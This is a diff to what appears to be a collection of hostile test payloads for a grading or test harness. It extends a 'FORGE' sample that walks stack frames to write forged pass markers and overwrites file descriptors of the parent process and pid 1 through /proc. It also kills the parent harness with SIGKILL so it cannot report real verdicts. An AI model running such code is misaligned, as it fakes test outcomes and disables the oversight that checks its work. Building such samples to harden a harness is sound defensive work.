@@ -199,7 +199,8 @@ HOSTILE = {
 
 # Forging a verdict from inside: walk the frames up to the harness and write its pass markers with
 # its own writer (what beat the nonce design: 6 lines), then try every file descriptor of this
-# process, of its parent (the harness) and of pid 1, then leave before anything fails.
+# process, of its parent (the harness) and of pid 1, kill the parent so that it cannot contradict
+# the forged lines, and leave.
 FORGE = """
 import os, sys
 def _forge():
@@ -221,18 +222,34 @@ def _forge():
                         except Exception:
                             pass
         f = f.f_back
+    own = set()
+    for fd in os.listdir('/proc/self/fd'):
+        try:
+            own.add(os.readlink('/proc/self/fd/' + fd))
+        except OSError:
+            pass
+    for pid in (os.getppid(), 1):
+        try:
+            fds = os.listdir('/proc/%d/fd' % pid)
+        except OSError:
+            continue
+        for fd in fds:
+            path = '/proc/%d/fd/%s' % (pid, fd)
+            try:
+                if os.readlink(path) not in own:
+                    with open(path, 'wb') as out:
+                        out.write(lines)
+            except OSError:
+                pass
+    try:
+        os.kill(os.getppid(), 9)  # so that the harness cannot write its own verdicts after the forged ones
+    except OSError:
+        pass
     for fd in range(3, 64):
         try:
             os.write(fd, lines)
         except OSError:
             pass
-    for pid in (os.getppid(), 1):
-        for fd in range(64):
-            try:
-                with open('/proc/%d/fd/%d' % (pid, fd), 'wb') as out:
-                    out.write(lines)
-            except OSError:
-                pass
     os._exit(0)
 """
 HOSTILE["frame_walk_at_load"] = FORGE + "_forge()\n"
